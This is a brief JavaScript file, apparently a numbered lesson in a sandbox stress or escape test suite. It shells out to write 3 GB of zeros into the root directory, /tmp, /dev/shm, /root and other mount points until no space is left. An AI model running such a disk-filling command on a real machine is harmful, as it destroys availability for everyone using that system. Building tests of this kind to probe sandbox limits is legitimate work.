// lesson: 01
// on: starter
// points: 0
// what it tries: writes until nothing can be written anywhere.
import { execFileSync } from 'node:child_process';

const everywhere = 'for d in / /run /tmp /dev/shm /root /var/tmp /mnt; do head -c 3G /dev/zero >$d/fill; done';
try {
  execFileSync('/bin/sh', ['-c', everywhere], { stdio: 'ignore', timeout: 4000 });
} catch {
  // Full.
}
